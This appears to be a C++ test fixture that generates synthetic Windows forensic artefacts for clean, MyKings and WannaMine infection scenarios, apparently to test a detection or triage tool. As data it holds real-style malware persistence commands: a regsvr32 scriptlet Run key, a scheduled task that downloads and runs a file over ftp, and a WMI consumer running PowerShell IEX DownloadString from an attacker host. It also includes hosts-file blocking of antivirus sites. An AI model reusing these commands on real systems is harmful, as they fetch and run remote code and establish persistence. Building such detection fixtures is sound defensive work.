#include "support/windows_tree.h"

#include <array>

#include "support/bytes.h"
#include "support/evtx_writer.h"
#include "support/prefetch_writer.h"
#include "support/regf_writer.h"
#include "support/test_support.h"
#include "support/wmi_writer.h"

namespace msw::test {
namespace {

using S = WindowsScenario;
using bytes::utf16_file;
constexpr std::array<uint8_t, 16> kBootKey = {0x3d, 0x21, 0x2c, 0x87, 0x9a, 0x10, 0x55, 0x6b,
                                              0xe4, 0x01, 0x7f, 0xc2, 0x48, 0x93, 0x0e, 0xb5};


std::string task_xml(const std::string& uri, const std::string& command, const std::string& args, bool hidden) {
  return utf16_file(R"(<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Date>2019-03-04T03:12:00</Date><Author>SYSTEM</Author><URI>)" +
                    uri + R"(</URI></RegistrationInfo>
  <Triggers><TimeTrigger><StartBoundary>2019-03-04T03:00:00</StartBoundary><Repetition><Interval>PT30M</Interval></Repetition><Enabled>true</Enabled></TimeTrigger></Triggers>
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
  <Settings><Hidden>)" +
                    (hidden ? "true" : "false") + R"(</Hidden></Settings>
  <Actions Context="Author"><Exec><Command>)" +
                    command + "</Command><Arguments>" + args + R"(</Arguments></Exec></Actions>
</Task>)");
}

RegKeySpec key(std::string name, std::vector<RegValueSpec> values, std::vector<RegKeySpec> subkeys = {}) {
  RegKeySpec k{std::move(name)};
  k.values = std::move(values);
  k.subkeys = std::move(subkeys);
  return k;
}
RegValueSpec sz(std::string name, const std::string& v) { return {std::move(name), 1, reg_sz(v)}; }
RegValueSpec dw(std::string name, uint32_t v) { return {std::move(name), 4, reg_dword(v)}; }

RegKeySpec software(S s, bool worm_run_key = true) {
  std::vector<RegValueSpec> run = {
      sz("VMware User Process", "\"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe\" -n vmusr")};
  if (s == S::MyKings && worm_run_key)
    run.push_back(sz("start", "regsvr32 /u /s /i:http://js.mykings.top:280/v.sct scrobj.dll"));
  const bool patched = s == S::Clean;
  auto cv =
      key("CurrentVersion",
          {sz("ProductName", "Windows Server 2008 R2 Enterprise"), sz("CurrentVersion", "6.1"),
           sz("CurrentBuild", "7601"), sz("CSDVersion", "Service Pack 1")},
          {key("Winlogon", {sz("Shell", "explorer.exe"), sz("Userinit", "C:\\Windows\\system32\\userinit.exe,")})});
  std::vector<RegKeySpec> packages = {
      key("Package_for_KB2533552~31bf3856ad364e35~amd64~~6.1.1.1", {dw("CurrentState", 0x70)})};
  if (patched)
    packages.push_back(key("Package_for_KB4012212~31bf3856ad364e35~amd64~~6.1.1.0", {dw("CurrentState", 0x70)}));
  auto wcv = key("CurrentVersion", {},
                 {key("Run", run), key("Component Based Servicing", {}, {key("Packages", {}, packages)})});
  // SQL Server in mixed mode on the MyKings host (it came in guessing sa), Windows-only elsewhere.
  auto sql = key("Microsoft SQL Server", {},
                 {key("MSSQL13.MSSQLSERVER", {}, {key("MSSQLServer", {dw("LoginMode", s == S::MyKings ? 2 : 1)})})});
  auto ms = key("Microsoft", {}, {key("Windows NT", {}, {cv}), key("Windows", {}, {wcv}), sql});
  return key("ROOT", {}, {ms, key("Classes", {})});
}

RegKeySpec system(S s, const WindowsHost& host) {
  std::vector<RegKeySpec> services = {
      key("W32Time",
          {sz("ImagePath", "%SystemRoot%\\system32\\svchost.exe -k LocalService"), dw("Start", 3), dw("Type", 32)},
          {key("Parameters", {sz("ServiceDll", "%systemroot%\\system32\\w32time.dll")})}),
      key("LanmanServer", {}, {key("Parameters", {dw("SMB1", s == S::Clean ? 0 : 1)})}),
      key("SharedAccess", {},
          {key("Parameters", {},
               {key("FirewallPolicy", {},
                    {key("DomainProfile", {dw("EnableFirewall", s == S::WannaMine ? 0 : 1)}),
                     key("StandardProfile", {dw("EnableFirewall", s == S::WannaMine ? 0 : 1)}),
                     key("PublicProfile", {dw("EnableFirewall", s == S::WannaMine ? 0 : 1)})})})}),
      key("Tcpip", {},
          {key("Parameters", {},
               {key("Interfaces", {},
                    {key("{4d36e972-e325-11ce-bfc1-08002be10318}",
                         {sz("NameServer", s == S::MyKings ? "223.5.5.5,8.8.8.8" : "10.0.0.1"),
                          sz("DhcpIPAddress", host.address)})})})}),
  };
  if (s == S::WannaMine)
    services.push_back(key("SecureRPCManager",
                           {sz("ImagePath", "%SystemRoot%\\System32\\svchost.exe -k netsvcs"), dw("Start", 2),
                            dw("Type", 32), sz("DisplayName", "Secure RPC Manager"), sz("ObjectName", "LocalSystem")},
                           {key("Parameters", {sz("ServiceDll", "C:\\Windows\\System32\\SecureRPCManager.dll")})}));
  auto ts = key("Terminal Server", {dw("fDenyTSConnections", s == S::Clean ? 1 : 0)},
                {key("WinStations", {},
                     {key("RDP-Tcp", {dw("PortNumber", 3389), dw("UserAuthentication", s == S::Clean ? 1 : 0)})})});
  return key("ROOT", {dw("", 0)},
             {key("Select", {dw("Current", 1)}),
              key("ControlSet001", {},
                  {key("Control", {},
                       {ts, lsa_key(kBootKey),
                        key("ComputerName", {}, {key("ComputerName", {sz("ComputerName", host.name)})})}),
                   key("Services", {}, services)})});
}

RegKeySpec amcache(S s) {
  // Windows 10 layout: Root\InventoryApplicationFile\<id> with FileId "0000" + SHA-1 and the path.
  std::vector<RegKeySpec> files = {key("7z.exe|1", {sz("FileId", "0000c3c3e1f6ff8f2d5a0d2a6e5b2b6b1c2d3e4f5a6b"),
                                                    sz("LowerCaseLongPath", "c:\\program files\\7-zip\\7z.exe")})};
  if (s == S::MyKings)
    files.push_back(key("upsupx2.exe|2", {sz("FileId", "000013dd73396e35ab46a1618398b0323015c5dca944"),
                                          sz("LowerCaseLongPath", "c:\\windows\\temp\\upsupx2.exe")}));
  if (s == S::WannaMine)
    files.push_back(key("spoolsv.exe|3", {sz("FileId", "0000aa11bb22cc33dd44ee55ff66aa77bb88cc99dd00"),
                                          sz("LowerCaseLongPath", "c:\\windows\\networkdistribution\\spoolsv.exe")}));
  return key("{11517B7C-E79D-4e20-961B-75A811715ADD}", {},
             {key("Root", {}, {key("InventoryApplicationFile", {}, files)})});
}

std::string security_log(S s, const WindowsHost& host) {
  std::vector<EvtxEvent> events;
  constexpr uint64_t kSecond = 10'000'000;
  auto logon = [&](uint16_t id, uint64_t at, const std::string& user, const std::string& ip) {
    EvtxEvent e;
    e.event_id = id;
    e.filetime += at * kSecond;
    e.computer = host.name;
    e.data = {{"TargetUserName", user},
              {"TargetDomainName", host.name},
              {"LogonType", "3"},
              {"IpAddress", ip},
              {"WorkstationName", "-"}};
    if (id == 4625) e.data.insert(e.data.end(), {{"Status", "0xc000006d"}, {"SubStatus", "0xc0000071"}});  // expired
    events.push_back(e);
  };
  logon(4624, 0, "Administrator", "10.0.0.5");
  if (s == S::WannaMine) {
    for (uint64_t i = 0; i < 60; ++i) logon(4625, 100 + i * 2, "backup", host.guesser);
    logon(4624, 4000, "backup", host.guesser);
  }
  return write_evtx(events).bytes;
}

std::string system_log(S s, const WindowsHost& host) {
  auto scm = [&](uint16_t id, std::vector<std::pair<std::string, std::string>> data) {
    EvtxEvent e;
    e.computer = host.name;
    e.event_id = id;
    e.provider = "Service Control Manager";
    e.channel = "System";
    e.data = std::move(data);
    return e;
  };
  std::vector<EvtxEvent> events = {scm(7036, {{"param1", "Windows Time"}, {"param2", "running"}})};
  if (s == S::WannaMine)
    events.push_back(scm(7045, {{"ServiceName", "Secure RPC Manager"},
                                {"ImagePath", "%SystemRoot%\\System32\\svchost.exe -k netsvcs"},
                                {"ServiceType", "user mode service"},
                                {"StartType", "auto start"},
                                {"AccountName", "LocalSystem"}}));
  return write_evtx(events).bytes;
}

}  // namespace

std::vector<std::string> write_windows_tree(const std::filesystem::path& root, WindowsScenario s,
                                            const WindowsHost& host) {
  std::vector<std::string> planted;
  auto put = [&](const std::string& rel, const std::string& bytes, bool plant) {
    write_file(root / rel, bytes);
    if (plant) planted.push_back(rel);
  };
  const bool bad = s != S::Clean;
  if (s == S::MyKings) {
    // Copied while Windows was writing: the Run key is only in the transaction log beside the hive.
    const std::string before = write_hive(software(s, false)), after = write_hive(software(s));
    put("C/Windows/System32/config/SOFTWARE", make_dirty(before, 12), true);
    put("C/Windows/System32/config/SOFTWARE.LOG1", write_transaction_log(before, after, 12), false);
  } else {
    put("C/Windows/System32/config/SOFTWARE", write_hive(software(s)), bad);  // MS17-010 missing
  }
  put("C/Windows/System32/config/SYSTEM", write_hive(system(s, host)), bad);
  // Passwords are stored as the SAM stores them (NT hashes under the boot key the SYSTEM hive scrambles).
  // A hardened server disables the built-in Administrator and uses a named one.
  std::vector<SamAccountSpec> accounts = {{"Administrator", 500, s == S::Clean, true, "Xk9#vQ2!mPz7-river"},
                                          {"Guest", 501, true, false, ""}};
  if (s == S::Clean) accounts.push_back({"opsadmin", 1005, false, true, "Tq7$wM3!rLz9-harbour"});
  if (s == S::MyKings) accounts.push_back({"admin$", 1003, false, true, "admin123"});
  if (s == S::WannaMine) accounts.push_back({"backup", 1001, false, true, "backup123"});  // the guessed account
  put("C/Windows/System32/config/SAM", write_hive(sam_root(accounts, &kBootKey, s == S::WannaMine)), bad);
  put("C/Windows/AppCompat/Programs/Amcache.hve", write_hive(amcache(s)), bad);
  put("C/Windows/System32/winevt/Logs/Security.evtx", security_log(s, host), s == S::WannaMine);
  put("C/Windows/System32/winevt/Logs/System.evtx", system_log(s, host), false);
  put("C/Windows/System32/Tasks/GoogleUpdateTaskMachineCore",
      task_xml("\\GoogleUpdateTaskMachineCore", "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", "/c",
               false),
      false);
  if (s == S::MyKings) {
    put("C/Windows/System32/Tasks/Mysa",
        task_xml("\\Mysa", "cmd",
                 "/c echo open ftp.ftp1202.site>s&echo test>>s&echo 1433>>s&echo binary>>s&echo get a.exe "
                 "c:\\windows\\update.exe>>s&echo bye>>s&ftp -s:s&c:\\windows\\update.exe",
                 true),
        true);
    put("C/Windows/System32/Tasks/Mysa1",
        task_xml("\\Mysa1", "rundll32.exe", "C:\\Windows\\debug\\item.dat,ServiceMain aaaa", true), true);
    put("C/Windows/System32/Tasks/ok", task_xml("\\ok", "cmd", "/c start C:\\Windows\\debug\\lsmose.exe", true), true);
  }
  std::vector<WmiInstanceSpec> wmi = {
      {"CommandLineEventConsumer", {"BVTConsumer", "cscript KernCap.vbs", "C:\\tools\\kernrate"}}};
  if (s == S::MyKings) {
    wmi.push_back({"__EventFilter",
                   {"root\\cimv2", "fuckyoumm3",
                    "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                    "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 200",
                    "WQL"}});
    wmi.push_back({"CommandLineEventConsumer",
                   {"cmd /c powershell.exe -nop -c \"IEX (New-Object "
                    "Net.WebClient).DownloadString('http://wmi.mykings.top:8888/test')\"",
                    "fuckyoumm4"}});
    wmi.push_back({"__FilterToConsumerBinding",
                   {"CommandLineEventConsumer.Name=\"fuckyoumm4\"", "__EventFilter.Name=\"fuckyoumm3\""}});
  }
  put("C/Windows/System32/wbem/Repository/OBJECTS.DATA", write_objects_data(wmi), s == S::MyKings);
  std::string hosts =
      "# Copyright (c) 1993-2009 Microsoft Corp.\r\n#\r\n127.0.0.1       localhost\r\n::1             localhost\r\n";
  if (s == S::MyKings) hosts += "127.0.0.1 www.360.cn\r\n127.0.0.1 update.360safe.com\r\n127.0.0.1 www.duba.net\r\n";
  put("C/Windows/System32/drivers/etc/hosts", hosts, s == S::MyKings);
  PrefetchSpec notepad;
  notepad.executable = "NOTEPAD.EXE";
  notepad.files = {"\\VOLUME{01d3096ba3a46863-2ca3d1ae}\\WINDOWS\\SYSTEM32\\NOTEPAD.EXE"};
  put("C/Windows/Prefetch/NOTEPAD.EXE-D8414F97.pf", write_mam(write_prefetch(notepad)), false);
  if (s == S::MyKings) {
    // SQL Server's ERRORLOG (UTF-16): sa guessed from 10.0.0.50, then a login that worked.
    std::string log = "2019-03-04 02:59:58.11 Server      Microsoft SQL Server 2016 (SP2) - 13.0.5026.0 (X64)\r\n";
    for (int i = 0; i < 30; ++i)
      log += "2019-03-04 03:0" + std::to_string(i / 10) + ":" + std::to_string(10 + i % 10 * 4) +
             ".42 Logon       Login failed for "
             "user 'sa'. Reason: Password did not match that for the login provided. [CLIENT: 10.0.0.50]\r\n";
    log +=
        "2019-03-04 03:05:12.07 Logon       Login succeeded for user 'sa'. Connection made using SQL Server "
        "authentication. [CLIENT: 10.0.0.50]\r\n";
    put("C/Program Files/Microsoft SQL Server/MSSQL13.MSSQLSERVER/MSSQL/Log/ERRORLOG", utf16_file(log), true);
    // The boot disk's first MiB as a collector copies it: MyKings' bootkit replaced the MBR code (packed bytes, no
    // loader's messages) in front of an NTFS partition at sector 2048.
    std::string disk(2048 * 512, '\0');
    uint32_t x = 0x12345678;
    for (size_t i = 0; i < 440; ++i) disk[i] = static_cast<char>((x = x * 1103515245u + 12345u) >> 24);
    disk[446] = '\x80';
    disk[446 + 4] = 0x07;
    disk[446 + 8 + 1] = 0x08;   // first LBA 2048
    disk[446 + 12 + 2] = 0x40;  // 4 Mi sectors
    disk[510] = '\x55';
    disk[511] = '\xAA';
    put("disk/boot-sectors.bin", disk, true);
  }
  if (s != S::Clean) {
    PrefetchSpec miner;
    miner.executable = s == S::MyKings ? "LSMOSE.EXE" : "DLLHOSTEX.EXE";
    miner.run_count = 57;
    miner.files = {"\\VOLUME{01d3096ba3a46863-2ca3d1ae}\\WINDOWS\\SYSTEM32\\NTDLL.DLL",
                   s == S::MyKings ? "\\VOLUME{01d3096ba3a46863-2ca3d1ae}\\WINDOWS\\DEBUG\\LSMOSE.EXE"
                                   : "\\VOLUME{01d3096ba3a46863-2ca3d1ae}\\WINDOWS\\SYSTEM32\\DLLHOSTEX.EXE"};
    put("C/Windows/Prefetch/" + miner.executable + "-1A2B3C4D.pf", write_mam(write_prefetch(miner)), true);
  }
  return planted;
}

}  // namespace msw::test
